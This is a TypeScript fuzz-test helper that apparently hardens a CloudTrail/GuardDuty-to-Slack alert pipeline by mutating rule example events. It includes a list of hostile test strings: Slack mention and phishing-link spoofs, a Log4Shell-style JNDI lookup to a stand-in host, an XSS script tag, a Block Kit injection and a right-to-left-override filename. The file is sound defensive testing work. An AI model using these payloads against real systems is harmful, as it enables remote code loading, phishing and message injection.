import { rules } from '../../../rules/index.js';
import type { CloudTrailEvent, GuardDutyFinding } from '../../../src/ingest/types.js';
import { eventBridge } from './events.js';

/** mulberry32: a small seeded PRNG, so a failing fuzz run can be replayed with its seed. */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** Text that tries to escape mrkdwn (mentions, links, formatting), break Block Kit or a log line. */
export const hostileStrings = [
  '<!channel>',
  '<!here> wake up',
  '<!everyone>',
  '<!subteam^S0123ABCD>',
  '<@U0123ABCD> please approve',
  '<#C0123ABCD>',
  '<https://evil.example/phish|Click to approve the remediation>',
  '<mailto:ceo@evil.example|mail the CEO>',
  'https://evil.example/raw-link',
  '*bold* _italic_ ~strike~ `code` ```block``` > quote',
  '&lt;!channel&gt; &amp; &gt;',
  '\u202Eelif.exe\u202C',
  'zero\u200Bwidth\u200Djoiner',
  'nul\u0000byte\u0007bell',
  'emoji 🔥🚨 and :rotating_light:',
  'line\nbreak\n\n> block quote\n• bullet',
  '${jndi:ldap://evil.example/a} {{7*7}} %s%n',
  '"}]}],"blocks":[{"type":"section","text":{"type":"mrkdwn","text":"<!channel>"}}]',
  '<script>alert(1)</script>',
  'x'.repeat(5_000),
  `${'word '.repeat(700)}<!channel>`,
];

type Json = null | boolean | number | string | Json[] | { [k: string]: Json };
type Path = (string | number)[];

/** Paths of every leaf (string, number, boolean, null) below `value`, skipping the record's own id fields. */
function leaves(value: Json, path: Path = [], out: Path[] = []): Path[] {
  if (Array.isArray(value)) value.forEach((v, i) => leaves(v, [...path, i], out));
  else if (value !== null && typeof value === 'object') for (const [k, v] of Object.entries(value)) leaves(v, [...path, k], out);
  else if (!(path.length === 1 && ['eventID', 'id', 'updatedAt', 'recipientAccountId', 'accountId'].includes(String(path[0])))) out.push(path);
  return out;
}

function setAt(root: Json, path: Path, value: Json | undefined): void {
  let node = root as Record<string | number, Json>;
  for (const p of path.slice(0, -1)) node = node[p] as Record<string | number, Json>;
  const last = path[path.length - 1]!;
  if (value === undefined) {
    if (Array.isArray(node)) node.splice(Number(last), 1);
    else delete node[last];
  } else node[last] = value;
}

function deep(depth: number): Json {
  let v: Json = 'bottom';
  for (let i = 0; i < depth; i++) v = { nested: v };
  return v;
}

export interface FuzzedMessage {
  /** The SQS body as sent (an EventBridge envelope as JSON, or garbage). */
  body: string;
  /** The id it is tracked by (CloudTrail eventID / finding id), when it is a record at all. */
  id?: string;
  kind: 'seed' | 'hostile-text' | 'type-swap' | 'dropped-field' | 'deep' | 'huge' | 'garbage';
}

/**
 * `n` SQS messages made from every rule's own example events (firing and
 * not): unchanged seeds, hostile text in their fields, fields of the wrong
 * type, fields dropped, deep nesting, a 200 KB field, and bodies that are no
 * EventBridge envelope at all. Each record has a fresh id and one of
 * `accounts` (so alerts spread over channels).
 */
export function fuzzMessages(n: number, accounts: readonly string[], seed: number, now = new Date()): FuzzedMessage[] {
  const rand = prng(seed);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(rand() * list.length)]!;
  const hex = (len: number) => Array.from({ length: len }, () => Math.floor(rand() * 16).toString(16)).join('');
  const uuid = () => `${hex(8)}-${hex(4)}-4${hex(3)}-a${hex(3)}-${hex(12)}`;
  const seeds = rules.flatMap((r) => r.cases.map((c) => ({ source: r.source, event: c.event as unknown as Json })));
  const out: FuzzedMessage[] = [];
  for (let i = 0; i < n; i++) {
    const r = rand();
    if (r < 0.05) {
      out.push({ kind: 'garbage', body: pick(['not json at all', '[]', 'null', '42', '"a string"', '{"detail-type":"AWS API Call via CloudTrail"}', '{"detail":{"eventSource":5}}', '{"version":"0","detail":null}', '{'.repeat(10_000), `{"Records":[${'{},'.repeat(100)}{}]}`]) });
      continue;
    }
    const s = pick(seeds);
    const rec = structuredClone(s.event) as { [k: string]: Json };
    const account = accounts[i % accounts.length]!;
    const id = s.source === 'cloudtrail' ? uuid() : hex(32);
    if (s.source === 'cloudtrail') {
      rec.eventID = id;
      rec.recipientAccountId = account;
      rec.eventTime = now.toISOString().replace(/\.\d+Z$/, 'Z');
    } else {
      rec.id = id;
      rec.accountId = account;
      rec.updatedAt = now.toISOString();
    }
    let kind: FuzzedMessage['kind'] = 'seed';
    const paths = leaves(rec);
    if (r < 0.35) {
      kind = 'hostile-text';
      for (let k = 0; k < 3 && paths.length; k++) setAt(rec, pick(paths), pick(hostileStrings));
    } else if (r < 0.5 && paths.length) {
      kind = 'type-swap';
      setAt(rec, pick(paths), pick<Json>([42, -1.5e308, true, null, [], {}, ['a', 1], { a: { b: 'c' } }, '']));
    } else if (r < 0.6 && paths.length) {
      kind = 'dropped-field';
      const p = pick([...paths, ['eventSource'], ['eventName'], ['type'], ['severity'], ['userIdentity']]);
      setAt(rec, p.length > 1 && rand() < 0.3 ? p.slice(0, -1) : p, undefined);
    } else if (r < 0.67) {
      kind = 'deep';
      rec.requestParameters = deep(300);
    } else if (r < 0.7) {
      kind = 'huge';
      rec.responseElements = { blob: 'A'.repeat(200_000) };
    }
    const envelope = eventBridge(s.source === 'cloudtrail' ? { event: rec as unknown as CloudTrailEvent } : { finding: rec as unknown as GuardDutyFinding });
    out.push({ kind, id, body: JSON.stringify(envelope) });
  }
  return out;
}
